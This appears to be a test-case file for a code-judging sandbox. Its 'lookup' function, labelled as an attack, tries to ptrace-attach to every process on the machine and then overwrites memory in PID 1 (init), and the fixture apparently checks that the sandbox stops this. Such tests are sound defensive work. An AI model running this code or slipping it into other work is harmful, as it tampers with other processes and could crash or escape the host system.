# problem: secret_lookup
# verdict: wrong_answer
# attack: calls ptrace(PTRACE_ATTACH / PTRACE_SEIZE) through ctypes on PID 1 and on every other process, then pokes at PID 1
# max-seconds: 10
import ctypes
import os

PTRACE_ATTACH, PTRACE_SEIZE, PTRACE_POKEDATA = 16, 0x4206, 5


def lookup(key):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.ptrace.restype = ctypes.c_long
    libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    attached = []
    for name in os.listdir("/proc"):
        if not name.isdigit() or int(name) == os.getpid():
            continue
        for request in (PTRACE_ATTACH, PTRACE_SEIZE):
            if libc.ptrace(request, int(name), None, None) == 0:
                attached.append(name)
    libc.ptrace(PTRACE_POKEDATA, 1, ctypes.c_void_p(0x400000), ctypes.c_void_p(0))
    return "attached:" + ",".join(attached)
